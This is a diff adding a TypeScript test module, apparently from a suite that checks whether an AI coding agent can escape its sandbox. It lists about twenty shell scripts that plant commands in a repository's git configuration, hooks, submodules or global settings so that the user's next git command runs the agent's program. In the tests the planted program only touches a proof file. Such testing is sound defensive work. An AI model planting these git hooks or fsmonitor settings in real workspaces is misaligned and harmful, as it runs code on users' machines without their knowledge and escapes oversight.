@@ -1,0 +1,132 @@
+import { spawnSync } from "node:child_process";
+import { mkdirSync, rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Attempt } from "../attempt.ts";
+import type { EscapeTarget } from "../escape-target.ts";
+import { addSubmodule, createRepository, git } from "../repository.ts";
+
+/** What a later git command of the user in the workspace would run. */
+const planted = (target: EscapeTarget, name: string): string => `touch ${target.proof(name)}; false`;
+
+/** A git configuration file that makes `git status` run a command. */
+const hostileConfig = (target: EscapeTarget, name: string): string =>
+  `git config -f config-planted core.repositoryformatversion 0; git config -f config-planted core.fsmonitor "${planted(target, name)}"`;
+
+/** Attempts to have the user's next git command in the workspace run the agent's program. */
+export const gitAttempts: readonly Attempt[] = [
+  gitAttempt("git-config", (target, name) => `git config core.fsmonitor "${planted(target, name)}"`),
+  gitAttempt(
+    "git-config-append",
+    (target, name) => `printf '[core]\\nfsmonitor = "${planted(target, name)}"\\n' >> .git/config`,
+  ),
+  gitAttempt(
+    "git-config-renamed",
+    (target, name) => `${hostileConfig(target, name)}; mv -f config-planted .git/config`,
+  ),
+  gitAttempt(
+    "git-config-hard-link",
+    (target, name) =>
+      `ln .git/config link; git config -f link core.fsmonitor "${planted(target, name)}"; cat link > .git/config`,
+  ),
+  gitAttempt("git-hook", (target, name) => hookScript(target, name, ".git/hooks")),
+  gitAttempt(
+    "git-hooks-path",
+    (target, name) => `${hookScript(target, name, "planted")}; git config core.hooksPath planted`,
+  ),
+  gitAttempt(
+    "git-hooks-link",
+    (target, name) => `${hookScript(target, name, "planted")}; rm -rf .git/hooks; ln -s ../planted .git/hooks`,
+  ),
+  gitAttempt(
+    "git-hooks-moved",
+    (target, name) => `mv .git/hooks .git/hooks-old; ${hookScript(target, name, ".git/hooks")}`,
+  ),
+  gitAttempt(
+    "git-folder-copied",
+    (target, name) => `mv .git x; cp -r x .git; git config core.fsmonitor "${planted(target, name)}"`,
+  ),
+  gitAttempt(
+    "git-folder-replaced-by-file",
+    (target, name) =>
+      `cp -r .git planted; git config -f planted/config core.fsmonitor "${planted(target, name)}"; rm -rf .git; echo "gitdir: planted" > .git`,
+  ),
+  gitAttempt(
+    "git-worktree-config",
+    (target, name) =>
+      `git config extensions.worktreeConfig true; ${hostileConfig(target, name)}; mv -f config-planted .git/config.worktree`,
+  ),
+  gitAttempt(
+    "git-submodule-config",
+    (target, name) => `git config -f .git/modules/module/config core.fsmonitor "${planted(target, name)}"`,
+    addSubmodule,
+  ),
+  gitAttempt(
+    "git-submodule-replaced",
+    (target, name) =>
+      `rm -rf module/.git; cp -r .git/modules/module module/.git; git config -f module/.git/config --unset core.worktree; git config -f module/.git/config core.fsmonitor "${planted(target, name)}"`,
+    addSubmodule,
+  ),
+  gitAttempt(
+    "git-submodule-moved",
+    (target, name) =>
+      `mv module old; mkdir module; cp -r .git/modules/module module/.git; git config -f module/.git/config --unset core.worktree; git config -f module/.git/config core.fsmonitor "${planted(target, name)}"`,
+    addSubmodule,
+  ),
+  gitAttempt(
+    "git-common-folder",
+    (target, name) =>
+      `mkdir planted; cp -r .git/objects .git/refs .git/HEAD planted; ${hostileConfig(target, name)}; mv config-planted planted/config; echo ../planted > .git/commondir`,
+  ),
+  gitAttempt(
+    "git-embedded-bare",
+    (target, name) =>
+      `${hostileConfig(target, name)}; git config -f config-planted core.bare false; git config -f config-planted core.worktree .; cp -r .git/objects .git/refs .git/HEAD .; mv config-planted config; rm -f .git/HEAD`,
+  ),
+  gitAttempt(
+    "git-nested-repository",
+    (target, name) =>
+      `git init -q nested; cd nested; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; git config core.fsmonitor "${planted(target, name)}"; cd ..; git add nested`,
+  ),
+  gitAttempt(
+    "git-user-hooks-path",
+    (target, name) => hookScript(target, name, ".husky"),
+    (target) => {
+      mkdirSync(join(target.workspace, ".husky"));
+      writeFileSync(join(target.workspace, ".husky/pre-commit"), "#!/bin/sh\n", { mode: 0o755 });
+      git(target, "config", "core.hooksPath", ".husky");
+    },
+  ),
+  gitAttempt(
+    "git-user-configuration",
+    (target, name) => `git config --global core.fsmonitor "${planted(target, name)}"`,
+  ),
+];
+
+const hookScript = (target: EscapeTarget, name: string, folder: string): string =>
+  `mkdir -p ${folder}; for hook in pre-commit post-index-change; do rm -f ${folder}/$hook; printf '#!/bin/sh\\n${planted(target, name)}\\n' > ${folder}/$hook; chmod +x ${folder}/$hook; done`;
+
+function gitAttempt(
+  name: string,
+  script: (target: EscapeTarget, name: string) => string,
+  addMore: (target: EscapeTarget) => void = () => {},
+): Attempt {
+  return {
+    name,
+    prepare(target) {
+      createRepository(target);
+      addMore(target);
+    },
+    script: (target) => script(target, name),
+    succeeded(target) {
+      rmSync(target.proof(name), { force: true }); // the agent's own git may have run it
+      for (const args of [["status"], ["diff"], ["commit", "-m", "later", "--allow-empty"]]) {
+        spawnSync("git", args, { cwd: target.workspace, env: target.environment, stdio: "ignore" });
+      }
+      return target.isProven(name);
+    },
+    restore(target) {
+      target.writeHomeFiles();
+      createRepository(target);
+    },
+  };
+}
